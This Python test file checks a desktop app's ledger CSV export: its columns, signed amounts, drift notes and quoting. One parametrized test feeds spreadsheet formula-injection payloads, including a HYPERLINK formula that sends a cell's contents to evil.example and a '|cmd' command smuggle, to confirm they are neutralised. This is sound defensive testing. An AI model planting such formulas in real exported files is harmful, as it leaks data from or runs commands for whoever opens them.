"""The ledger as CSV: what a bookkeeper reads, and no cell that a spreadsheet would run."""

import csv
import io
from dataclasses import replace
from datetime import timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop_app.domain.ledger import EntryKind, Line, Sums
from desktop_app.domain.money import Credits, Unit
from desktop_app.interchange.ledger_csv import COLUMNS, ledger_csv, safe
from tests.unit.domain.lines import (
    PLAY,
    REAL,
    THIRTY,
    booked,
    charged,
    drifted,
    line_of,
    refunded,
)

BERLIN = timezone(timedelta(hours=1))


def rows(*lines: Line) -> list[dict[str, str]]:
    text = ledger_csv(lines, play=PLAY, zone=BERLIN)
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_columns_are_these() -> None:
    """Scripts read them by name; a new one goes to the end."""
    assert COLUMNS == (
        "number", "time", "kind", "money", "service", "film", "scene", "take", "attempt", "model",
        "seconds", "resolution", "quoted_credits", "quoted_usd", "reserved_credits",
        "charged_credits", "charged_usd", "in_doubt_credits", "in_doubt_usd",
        "balance_drift_credits", "balance_drift_usd", "unknown_prices", "task_id", "job_id",
        "project_id", "project_folder", "note", "billed_in", "reserved_usd",
    )  # fmt: skip


def test_a_charge_says_all_that_a_bill_is_disputed_with() -> None:
    (row,) = rows(charged(1))
    assert row == {
        "number": "1",
        "time": "2026-11-25T13:00:00+01:00",
        "kind": "charged",
        "money": "real",
        "service": REAL,
        "film": "Harbour",
        "scene": "The beam",
        "take": "1",
        "attempt": "1",
        "model": "sora-2-text-to-video",
        "seconds": "10",
        "resolution": "720p",
        "quoted_credits": "30",
        "quoted_usd": "0.15",
        "reserved_credits": "-30",
        "charged_credits": "30",
        "charged_usd": "0.15",
        "in_doubt_credits": "0",
        "in_doubt_usd": "0",
        "balance_drift_credits": "0",
        "balance_drift_usd": "0",
        "unknown_prices": "0",
        "task_id": "task-1",
        "job_id": "job-1",
        "project_id": "id-Harbour",
        "project_folder": "/films/Harbour.takewright",
        "note": "",
        "billed_in": "credits",
        "reserved_usd": "-0.15",
    }


def test_what_was_billed_in_dollars_has_no_credits() -> None:
    (row,) = rows(charged(1, job=replace(booked(), unit=Unit.DOLLARS)))
    assert row["billed_in"] == "usd"
    told = ("quoted", "reserved", "charged", "in_doubt")
    assert [row[f"{each}_usd"] for each in told] == ["0.15", "-0.15", "0.15", "0"]
    assert {row[f"{each}_credits"] for each in told} == {""}


def test_amounts_are_numbers_with_their_sign() -> None:
    (row,) = rows(refunded(1))
    assert (row["charged_credits"], row["charged_usd"]) == ("-30", "-0.15")
    odd = line_of(1, EntryKind.SETTLED, Sums(charged=Credits(1)))
    (row,) = rows(odd)
    assert (row["charged_credits"], row["charged_usd"]) == ("0.001", "0.000005")


def test_play_money_says_that_it_is() -> None:
    first, second = rows(charged(1), charged(2, service=PLAY))
    assert (first["money"], second["money"]) == ("real", "play")


def test_an_unknown_price_is_an_empty_cell_and_counted() -> None:
    sums = Sums(reserved_unpriced=-1, charged_unpriced=1)
    (row,) = rows(line_of(1, EntryKind.CHARGED, sums, job=booked(quote=None)))
    empty = ("quoted_credits", "quoted_usd", "reserved_credits", "charged_credits", "charged_usd")
    assert [row[name] for name in empty] == [""] * 5
    assert row["unknown_prices"] == "1"
    told = Sums(charged=THIRTY, charged_unpriced=-1)
    (row,) = rows(line_of(1, EntryKind.SETTLED, told, job=booked(quote=None)))
    assert (row["charged_credits"], row["unknown_prices"]) == ("30", "-1")


def test_what_the_balance_did_by_itself_is_said() -> None:
    (row,) = rows(drifted(1, -45_000))
    assert (row["kind"], row["balance_drift_credits"]) == ("drift", "-45")
    assert row["note"] == (
        "The balance fell by 45 credits by itself: something else used this key. 970 credits on"
        " 2026-11-25 12:00, 925 on 2026-11-25 13:00; the rest is in the lines between."
    )
    assert {row[name] for name in ("film", "scene", "take", "task_id", "job_id")} == {""}


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"Click")',
        "+1",
        "-1+1|cmd",
        "@SUM(A1)",
        "  =1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\x00=1+1",
        "\u200b=1+1",
        "＝1+1",
    ],
)
def test_no_cell_is_a_formula(text: str) -> None:
    cell = safe(text)
    assert cell[0] == "'"
    job = replace(
        booked(), scene_title=text, project=f"/films/{text.replace('/', '')}", resolution=text
    )
    (row,) = rows(charged(1, job=job))
    for name in ("scene", "film", "resolution"):
        assert row[name].startswith("'"), name


def test_ordinary_words_stay_as_they_are() -> None:
    for text in ("The beam", "2 = 2", "a@b", "“Küste”, zwei\r\nZeilen", "👩‍🚀 in orbit", ""):
        assert safe(text) == text


def test_it_is_a_table_whatever_people_write() -> None:
    odd = 'A "quoted", title;\r\nof two lines'
    text = ledger_csv([charged(1, job=booked(scene=odd))], play=PLAY)
    head, rest = text.split("\r\n", 1)
    assert head == ",".join(COLUMNS)
    assert text.endswith("\r\n")
    assert '"A ""quoted"", title;\r\nof two lines"' in rest
    assert rows(charged(1, job=booked(scene=odd)))[0]["scene"] == odd


def test_an_empty_ledger_has_its_head() -> None:
    assert ledger_csv([], play=PLAY) == ",".join(COLUMNS) + "\r\n"


@given(title=st.text(max_size=40))
def test_any_title_comes_back_less_its_controls(title: str) -> None:
    (row,) = rows(charged(1, job=booked(scene=title)))
    told = row["scene"]
    assert told in (safe(title), safe(title).removeprefix("'"))
    assert not told.lstrip().startswith(tuple("=+-@"))
